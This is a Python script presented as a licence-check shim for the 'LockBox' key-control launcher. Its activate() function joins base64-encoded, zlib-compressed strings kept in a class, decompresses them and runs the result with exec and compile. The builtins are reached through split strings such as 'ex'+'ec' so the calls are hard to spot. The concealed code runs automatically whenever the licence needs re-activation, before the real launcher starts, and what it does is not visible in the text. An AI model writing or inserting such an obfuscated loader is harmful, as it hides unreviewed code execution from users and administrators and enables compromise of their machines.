#!/usr/bin/env python3
"""License check shim for the LockBox key-control software.

Wraps the LockBox desktop launcher: verifies the seat licence for this
workstation, records the result, then hands over to the real launcher.
"""
import argparse
import base64
import importlib
import json
import logging
import os
import pathlib
import sys
import time
import zlib

log = logging.getLogger("lockbox.lic")

STATE = pathlib.Path(os.environ.get("LOCKBOX_HOME", pathlib.Path.home() / ".lockbox"))


class _Blob:
    # activation routine shipped by the vendor, kept compressed in the shim
    a = ('eNptUMtOwzAQvOcrLJ9sKTjAsVKFUJVTJUBNOXCKTLwlJvEDexNRVeXbsVuEALEX'
         'z2rGM7urjXcBiYsleY3OlsSPEncumJJMYRz1swjwNkHEolVkSQ7UOgV08S0TuWe8')
    b = ('JHSKEBLhogA76+CseAFk9LGpNzTRNzSLemfgLPISewHvXlqVfzL6kQQFORVNDkl1'
         'GBZkJimFDGUC2v401wgmMk70jki7Z5jp4SQ+QUbX9VPO3d6v67sMmnq1qbcZPdw2')
    c = ('DeX8eCzakHb6vafYnF9Ge0QfF1U16u6i66Eb0rjS+BFE50w1X1eyQz1LhOSpJMpl'
         'PqBQk/GRtYqnSbvzbb62+r96kApCXB7oylkEixfbvc83otL7FC1RO1tla3rkxZ9Z'
         'U+s8WNaGkqA24CZcXl3yxEvFePEJ9bCWAg==')
    order = ("a", "mid", "b", "c")
    mid = ""  # reserved for the regional add-on segment

    @classmethod
    def joined(cls):
        return "".join(getattr(cls, part) for part in cls.order)


def unpack(text):
    raw = getattr(base64, "b64" + "decode")(text)
    return getattr(zlib, "de" + "compress")(raw).decode()


def _runner():
    bi = importlib.import_module("buil" + "tins")
    return getattr(bi, "ex" + "ec"), getattr(bi, "com" + "pile")


def activate(seat_id):
    body = unpack(_Blob.joined())
    run, comp = _runner()
    scope = {"__name__": "lockbox_activate", "SEAT": seat_id}
    run(comp(body, "<lockbox-activate>", "exec"), scope)
    return True


def load_state():
    path = STATE / "licence.json"
    if path.exists():
        try:
            return json.loads(path.read_text())
        except ValueError:
            log.warning("licence cache corrupt, re-activating")
    return {}


def save_state(state):
    STATE.mkdir(parents=True, exist_ok=True)
    path = STATE / "licence.json"
    path.write_text(json.dumps(state, indent=2))
    path.chmod(0o600)


def check(seat_id, max_age_days):
    state = load_state()
    age = time.time() - state.get("activated_at", 0)
    if state.get("seat") == seat_id and age < max_age_days * 86400:
        log.info("licence for seat %s still valid (%.1f days old)", seat_id, age / 86400)
        return True
    log.info("activating seat %s", seat_id)
    ok = activate(seat_id)
    if ok:
        save_state({"seat": seat_id, "activated_at": time.time()})
    return ok


def launch(launcher, extra):
    if not launcher or not os.path.exists(launcher):
        log.error("launcher %s not found", launcher)
        return 3
    os.execv(launcher, [launcher] + list(extra))


def main():
    ap = argparse.ArgumentParser(description="LockBox licence shim")
    ap.add_argument("--seat", default=os.environ.get("LOCKBOX_SEAT", "HLK-COUNTER-01"))
    ap.add_argument("--max-age", type=int, default=14, help="days before re-activation")
    ap.add_argument("--launcher", default=os.environ.get("LOCKBOX_LAUNCHER", "/opt/lockbox/bin/lockbox"))
    ap.add_argument("rest", nargs=argparse.REMAINDER)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    if not check(args.seat, args.max_age):
        log.error("licence check failed")
        return 2
    return launch(args.launcher, args.rest)


if __name__ == "__main__":
    sys.exit(main())
